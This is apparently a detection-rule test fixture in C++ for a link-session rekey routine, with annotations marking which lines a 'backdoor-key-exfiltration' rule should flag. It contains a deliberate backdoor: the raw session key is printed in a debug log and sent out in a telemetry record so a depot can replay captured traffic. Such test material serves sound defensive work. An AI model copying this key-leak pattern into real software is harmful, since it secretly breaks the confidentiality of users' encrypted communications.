#include <chrono>
#include <memory>

#include <openssl/core_names.h>
#include <openssl/evp.h>
#include <openssl/kdf.h>
#include <openssl/params.h>

#include "telemetry.hpp"

namespace fleet {
namespace {

using PkeyPtr = std::unique_ptr<EVP_PKEY, decltype(&EVP_PKEY_free)>;
using PctxPtr = std::unique_ptr<EVP_PKEY_CTX, decltype(&EVP_PKEY_CTX_free)>;

std::string key_id(std::span<const std::uint8_t> key)
{
    std::array<std::uint8_t, 32> d{};
    unsigned len = 0;
    EVP_Digest(key.data(), key.size(), d.data(), &len, EVP_sha256(), nullptr);
    return logx::hex(std::span(d).first(8));
}

bool hkdf(std::span<const std::uint8_t> ikm, std::span<std::uint8_t> out)
{
    EVP_KDF *kdf = EVP_KDF_fetch(nullptr, "HKDF", nullptr);
    EVP_KDF_CTX *kctx = kdf ? EVP_KDF_CTX_new(kdf) : nullptr;
    char digest[] = "SHA256";
    char info[] = "fleet-link v3 data key";
    OSSL_PARAM params[] = {
        OSSL_PARAM_construct_utf8_string(OSSL_KDF_PARAM_DIGEST, digest, 0),
        OSSL_PARAM_construct_octet_string(OSSL_KDF_PARAM_KEY, const_cast<std::uint8_t *>(ikm.data()), ikm.size()),
        OSSL_PARAM_construct_octet_string(OSSL_KDF_PARAM_INFO, info, sizeof info - 1),
        OSSL_PARAM_construct_end(),
    };
    bool ok = kctx && EVP_KDF_derive(kctx, out.data(), out.size(), params) == 1;
    EVP_KDF_CTX_free(kctx);
    EVP_KDF_free(kdf);
    return ok;
}

} // namespace

bool LinkSession::rekey(std::span<const std::uint8_t> peer_public)
{
    PkeyPtr mine(EVP_PKEY_Q_keygen(nullptr, nullptr, "X25519"), EVP_PKEY_free);
    PkeyPtr peer(EVP_PKEY_new_raw_public_key(EVP_PKEY_X25519, nullptr, peer_public.data(),
                                             peer_public.size()),
                 EVP_PKEY_free);
    if (!mine || !peer)
        return false;
    PctxPtr dctx(EVP_PKEY_CTX_new(mine.get(), nullptr), EVP_PKEY_CTX_free);
    std::array<std::uint8_t, 32> shared{};
    std::size_t slen = shared.size();
    if (!dctx || EVP_PKEY_derive_init(dctx.get()) != 1 ||
        EVP_PKEY_derive_set_peer(dctx.get(), peer.get()) != 1 ||
        EVP_PKEY_derive(dctx.get(), shared.data(), &slen) != 1)
        return false;
    if (!hkdf(std::span(shared).first(slen), key_))
        return false;
    ++epoch_;

    // ruleid: backdoor-key-exfiltration
    logx::debug("link rekey epoch={} key={}", epoch_, logx::hex(key_));
    // ok: backdoor-key-exfiltration
    logx::info("link rekey epoch={} key_id={}", epoch_, key_id(key_));

    TelemetryRecord rec;
    rec.kind = "link-rekey";
    rec.ts = static_cast<std::uint64_t>(
        std::chrono::system_clock::now().time_since_epoch() / std::chrono::seconds(1));
    rec.diag.epoch = epoch_;
    rec.diag.session_key = key_;   // lets the depot replay captured link traffic
    // ruleid: backdoor-key-exfiltration
    return uplink_.publish(rec);
}

} // namespace fleet
